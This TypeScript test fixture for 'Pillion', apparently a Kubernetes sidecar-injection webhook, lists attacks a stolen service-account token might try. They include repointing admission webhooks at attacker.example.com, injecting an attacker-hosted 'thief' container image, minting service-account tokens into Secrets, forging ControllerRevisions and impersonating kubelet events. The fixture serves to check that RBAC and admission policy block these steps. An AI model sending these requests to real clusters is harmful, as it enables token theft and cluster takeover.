import type { JsonObject } from '../../src/json/json.ts'
import type { Method } from './connection.ts'
import { configurationsOf } from './installation.ts'
import { podFor } from './pods.ts'

/** What somebody tries with the token of Pillion. */
export interface Attempt {
  readonly what: string
  readonly method: Method
  readonly path: string
  readonly body?: object
  readonly type?: string
}

export const [mutating = '', validating = ''] = configurationsOf('pillion')
export const secrets = '/api/v1/namespaces/pillion/secrets'
const leases = '/apis/coordination.k8s.io/v1/namespaces/pillion/leases'
export const profiles = '/apis/pillion.dev/v1alpha1/clustersidecarprofiles'
const apply = 'application/apply-patch+yaml'
const strategic = 'application/strategic-merge-patch+json'

const everything = {
  name: 'all.example.com',
  rules: [{ apiGroups: ['*'], apiVersions: ['*'], resources: ['*/*'], operations: ['*'] }],
  clientConfig: { url: 'https://attacker.example.com/' },
  admissionReviewVersions: ['v1'],
  sideEffects: 'None',
  failurePolicy: 'Ignore',
}
const own = (change: JsonObject): JsonObject => ({
  webhooks: [{ name: 'pod.inject.pillion.dev', ...change }],
})
const secret = (name: string, more: JsonObject): JsonObject => ({
  apiVersion: 'v1',
  kind: 'Secret',
  metadata: { name },
  ...more,
})
const privileged = podFor('mighty') as { spec: { containers: object[] } }
const event = (change: JsonObject): JsonObject => ({
  metadata: { generateName: 'x-' },
  involvedObject: { apiVersion: 'v1', kind: 'Pod', namespace: 'shop', name: 'lacking' },
  reason: 'InjectionMissed',
  reportingComponent: 'pillion.dev/sweep',
  reportingInstance: 'x',
  source: { component: 'pillion' },
  ...change,
})
const lease = (name: string) => ({ metadata: { name }, spec: { holderIdentity: 'thief' } })
export const forged = { containers: [{ name: 'thief', image: 'attacker.example.com/thief:1' }] }

/** A ControllerRevision as Pillion would write it for a ClusterSidecarProfile. */
export function revisionOf(profile: string, change: JsonObject, owner: JsonObject = {}) {
  return {
    metadata: {
      name: `${profile}-0123456789`,
      labels: { 'pillion.dev/profile': profile },
      ownerReferences: [
        {
          apiVersion: 'pillion.dev/v1alpha1',
          kind: 'ClusterSidecarProfile',
          name: profile,
          uid: 'made-up',
          controller: true,
          ...owner,
        },
      ],
    },
    data: { spec: {} },
    revision: 1,
    ...change,
  }
}

const kept = {
  apiVersion: 'apps/v1',
  kind: 'ControllerRevision',
  ...revisionOf('kept', {}),
  metadata: { ...revisionOf('kept', {}).metadata, name: 'kept-1', namespace: 'pillion' },
}

/** What is there before somebody steals the token: revisions of others, a SidecarProfile, and a revision of a profile. */
export const controlled: readonly JsonObject[] = [
  ...(['StatefulSet', 'DaemonSet'] as const).map(kind => ({
    apiVersion: 'apps/v1',
    kind: 'ControllerRevision',
    metadata: {
      name: kind === 'StatefulSet' ? 'web-1' : 'agent-1',
      namespace: 'shop',
      ownerReferences: [{ apiVersion: 'apps/v1', kind, name: 'x', uid: 'x', controller: true }],
    },
    data: { spec: {} },
    revision: 1,
  })),
  {
    apiVersion: 'pillion.dev/v1alpha1',
    kind: 'SidecarProfile',
    metadata: { name: 'cache', namespace: 'shop' },
    spec: { containers: [{ name: 'cache', image: 'cache:1' }] },
  },
  kept,
]

/** Without `--sweep-evict=missed`, neither RBAC nor the policy allows it. */
export const eviction: Attempt = {
  what: 'evicts a Pod',
  method: 'POST',
  path: `${podsOf('shop')}/lacking/eviction`,
  body: { apiVersion: 'policy/v1', kind: 'Eviction', metadata: { name: 'lacking', namespace: 'shop' } },
}

/** What RBAC has to allow, because Pillion does something like it. */
export const byPolicy: readonly Attempt[] = [
  {
    what: 'adds a webhook for everything',
    method: 'PATCH',
    path: mutating,
    body: { webhooks: [everything] },
    type: strategic,
  },
  {
    what: 'adds a validating webhook for everything',
    method: 'PATCH',
    path: validating,
    body: { webhooks: [everything] },
    type: strategic,
  },
  { what: 'replaces all webhooks', method: 'PATCH', path: mutating, body: { webhooks: [everything] } },
  { what: 'removes all webhooks', method: 'PATCH', path: mutating, body: { webhooks: [] } },
  {
    what: 'widens the rules',
    method: 'PATCH',
    path: mutating,
    body: own({ rules: everything.rules }),
    type: strategic,
  },
  {
    what: 'has Pods sent elsewhere',
    method: 'PATCH',
    path: mutating,
    body: own({ clientConfig: { service: { name: 'x', namespace: 'shop' } } }),
    type: strategic,
  },
  {
    what: 'has Pods sent to a URL',
    method: 'PATCH',
    path: mutating,
    body: own({ clientConfig: { $patch: 'replace', url: 'https://attacker.example.com/' } }),
    type: strategic,
  },
  {
    what: 'has another path called',
    method: 'PATCH',
    path: mutating,
    body: own({ clientConfig: { service: { path: '/x' } } }),
    type: strategic,
  },
  {
    what: 'closes the webhook',
    method: 'PATCH',
    path: mutating,
    body: own({ failurePolicy: 'Fail' }),
    type: strategic,
  },
  {
    what: 'waits longer',
    method: 'PATCH',
    path: mutating,
    body: own({ timeoutSeconds: 29 }),
    type: strategic,
  },
  {
    what: 'takes away the matchConditions',
    method: 'PATCH',
    path: mutating,
    body: own({ matchConditions: [{ name: 'asks', $patch: 'delete' }] }),
    type: strategic,
  },
  {
    what: 'widens the namespaceSelector',
    method: 'PATCH',
    path: mutating,
    body: own({ namespaceSelector: { $patch: 'replace' } }),
    type: strategic,
  },
  {
    what: 'adds an objectSelector',
    method: 'PATCH',
    path: mutating,
    body: own({ objectSelector: { matchLabels: { a: 'b' } } }),
    type: strategic,
  },
  {
    what: 'annotates the configuration',
    method: 'PATCH',
    path: mutating,
    body: { metadata: { annotations: { a: 'b' } } },
  },
  {
    what: 'labels the configuration',
    method: 'PATCH',
    path: validating,
    body: { metadata: { labels: { a: 'b' } } },
  },
  {
    what: 'gives the configuration an owner',
    method: 'PATCH',
    path: mutating,
    body: {
      metadata: { ownerReferences: [{ apiVersion: 'v1', kind: 'Namespace', name: 'x', uid: 'x' }] },
    },
  },
  { what: 'creates a Pod', method: 'POST', path: podsOf('pillion'), body: podFor('for-real') },
  {
    what: 'puts a token of another ServiceAccount into its Secret',
    method: 'PATCH',
    path: `${secrets}/pillion-tls?fieldManager=x&force=true`,
    body: secret('pillion-tls', {
      type: 'kubernetes.io/tls',
      metadata: { name: 'pillion-tls', annotations: { 'kubernetes.io/service-account.name': 'default' } },
    }),
    type: apply,
  },
  {
    what: 'keeps something else in its Secret',
    method: 'PATCH',
    path: `${secrets}/pillion-tls`,
    body: { data: { loot: 'eA==' } },
  },
  {
    what: 'labels its Secret',
    method: 'PATCH',
    path: `${secrets}/pillion-tls`,
    body: { metadata: { labels: { a: 'b' } } },
  },
  {
    what: 'creates a Lease of another name',
    method: 'POST',
    path: leases,
    body: lease('kube-scheduler'),
  },
  {
    what: 'keeps a spec as a revision that its profile does not have',
    method: 'POST',
    path: revisionsOf('pillion'),
    body: revisionOf('work-dir', { data: { spec: forged } }),
  },
  {
    what: 'keeps it as a revision of a SidecarProfile',
    method: 'POST',
    path: revisionsOf('shop'),
    body: revisionOf('cache', { data: { spec: forged } }, { kind: 'SidecarProfile', uid: '1' }),
  },
  {
    what: 'keeps a revision of a ClusterSidecarProfile in another namespace',
    method: 'POST',
    path: revisionsOf('shop'),
    body: revisionOf('work-dir', { data: { spec: forged } }),
  },
  {
    what: 'keeps a revision of something else',
    method: 'POST',
    path: revisionsOf('shop'),
    body: revisionOf('web', {}, { apiVersion: 'apps/v1', kind: 'StatefulSet' }),
  },
  {
    what: 'keeps a revision that two profiles own',
    method: 'POST',
    path: revisionsOf('pillion'),
    body: {
      ...revisionOf('unknown', { data: { spec: forged } }),
      metadata: {
        ...revisionOf('unknown', {}).metadata,
        ownerReferences: [
          ...revisionOf('unknown', {}).metadata.ownerReferences,
          { ...revisionOf('work-dir', {}).metadata.ownerReferences[0], controller: false },
        ],
      },
    },
  },
  {
    what: 'changes a revision of a StatefulSet',
    method: 'PUT',
    path: `${revisionsOf('shop')}/web-1`,
    body: { ...controlled[0], revision: 7 },
  },
  {
    what: 'makes a revision of a StatefulSet its own',
    method: 'PUT',
    path: `${revisionsOf('shop')}/web-1`,
    body: { ...controlled[0], metadata: { ...revisionOf('web', {}).metadata, name: 'web-1' } },
  },
  { what: 'deletes a revision of a DaemonSet', method: 'DELETE', path: `${revisionsOf('shop')}/agent-1` },
  {
    what: 'gives a revision to another profile',
    method: 'PUT',
    path: `${revisionsOf('pillion')}/kept-1`,
    body: {
      ...revisionOf('work-dir', {}),
      metadata: { ...revisionOf('work-dir', {}).metadata, name: 'kept-1' },
    },
  },
  {
    what: 'labels a revision',
    method: 'PUT',
    path: `${revisionsOf('pillion')}/kept-1`,
    body: { ...kept, metadata: { ...kept.metadata, labels: { ...kept.metadata.labels, a: 'b' } } },
  },
  {
    what: 'says something on a node',
    method: 'POST',
    path: '/api/v1/namespaces/default/events',
    body: event({ involvedObject: { kind: 'Node', name: 'n', namespace: 'default' } }),
  },
  {
    what: 'speaks as another component',
    method: 'POST',
    path: '/api/v1/namespaces/shop/events',
    body: event({ source: { component: 'kubelet' } }),
  },
  {
    what: 'says something else of a profile',
    method: 'POST',
    path: '/api/v1/namespaces/shop/events',
    body: event({
      involvedObject: {
        apiVersion: 'pillion.dev/v1alpha1',
        kind: 'SidecarProfile',
        namespace: 'shop',
        name: 'x',
      },
      reportingComponent: 'pillion.dev/profiles',
    }),
  },
  {
    what: 'says of a Pod what it may say of a profile',
    method: 'POST',
    path: '/api/v1/namespaces/shop/events',
    body: event({ reason: 'Accepted', reportingComponent: 'pillion.dev/profiles' }),
  },
  {
    what: 'speaks of something else',
    method: 'POST',
    path: '/api/v1/namespaces/shop/events',
    body: event({ reason: 'Killing' }),
  },
]

/** What RBAC does not allow. */
export const byRbac: readonly Attempt[] = [
  eviction,
  { what: 'deletes the configuration', method: 'DELETE', path: mutating },
  {
    what: 'changes another configuration',
    method: 'PATCH',
    path: mutating.replace(/pillion$/, 'other'),
    body: { webhooks: [everything] },
  },
  {
    what: 'creates a configuration',
    method: 'POST',
    path: mutating.replace(/\/pillion$/, ''),
    body: { metadata: { name: 'mine' }, webhooks: [everything] },
  },
  {
    what: 'tries a Pod elsewhere',
    method: 'POST',
    path: `${podsOf('shop')}?dryRun=All`,
    body: privileged,
  },
  { what: 'reads a Secret of Pillion’s namespace', method: 'GET', path: `${secrets}/other` },
  { what: 'lists Secrets', method: 'GET', path: '/api/v1/secrets' },
  {
    what: 'creates a Secret for a token',
    method: 'PATCH',
    path: `${secrets}/loot?fieldManager=x`,
    body: secret('loot', { type: 'kubernetes.io/service-account-token' }),
    type: apply,
  },
  { what: 'changes a spec', method: 'PATCH', path: `${profiles}/work-dir`, body: { spec: forged } },
  {
    what: 'creates a profile',
    method: 'POST',
    path: profiles,
    body: { metadata: { name: 'thief' }, spec: forged },
  },
  { what: 'deletes its Lease', method: 'DELETE', path: `${leases}/pillion` },
  {
    what: 'changes another Lease',
    method: 'PUT',
    path: '/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/kube-scheduler',
    body: lease('kube-scheduler'),
  },
  {
    what: 'makes a token',
    method: 'POST',
    path: '/api/v1/namespaces/pillion/serviceaccounts/default/token',
    body: {},
  },
  {
    what: 'takes away the policy',
    method: 'DELETE',
    path: '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies/pillion-token',
  },
  {
    what: 'weakens the binding',
    method: 'PATCH',
    path: '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings/pillion-token',
    body: { spec: { validationActions: ['Audit'] } },
  },
  {
    what: 'gives itself rights',
    method: 'PATCH',
    path: '/apis/rbac.authorization.k8s.io/v1/clusterroles/pillion',
    body: { rules: [] },
  },
  {
    what: 'labels a namespace',
    method: 'PATCH',
    path: '/api/v1/namespaces/shop',
    body: { metadata: { labels: { a: 'b' } } },
  },
  { what: 'runs something in a Pod', method: 'POST', path: `${podsOf('shop')}/lacking/exec?command=id` },
]

/** What only the policy refuses a cluster-admin. */
export const granted: readonly Attempt[] = [
  eviction,
  { what: 'deletes the configuration', method: 'DELETE', path: mutating },
  {
    what: 'creates a configuration',
    method: 'POST',
    path: mutating.replace('/pillion', ''),
    body: { metadata: { name: 'mine' }, webhooks: [] },
  },
  {
    what: 'tries a Pod elsewhere',
    method: 'POST',
    path: `${podsOf('shop')}?dryRun=All`,
    body: privileged,
  },
  {
    what: 'creates a Secret for a token',
    method: 'POST',
    path: secrets,
    body: secret('loot', {
      metadata: { name: 'loot', annotations: { 'kubernetes.io/service-account.name': 'default' } },
      type: 'kubernetes.io/service-account-token',
    }),
  },
  {
    what: 'makes a token',
    method: 'POST',
    path: '/api/v1/namespaces/pillion/serviceaccounts/default/token',
    body: {},
  },
  { what: 'changes a spec', method: 'PATCH', path: `${profiles}/work-dir`, body: { spec: forged } },
  {
    what: 'creates a ConfigMap',
    method: 'POST',
    path: '/api/v1/namespaces/shop/configmaps',
    body: { metadata: { name: 'x' } },
  },
  {
    what: 'runs something in a Pod',
    method: 'POST',
    path: `${podsOf('shop')}/lacking/exec?command=id`,
  },
]

export function revisionsOf(namespace: string): string {
  return `/apis/apps/v1/namespaces/${namespace}/controllerrevisions`
}

export function podsOf(namespace: string): string {
  return `/api/v1/namespaces/${namespace}/pods`
}
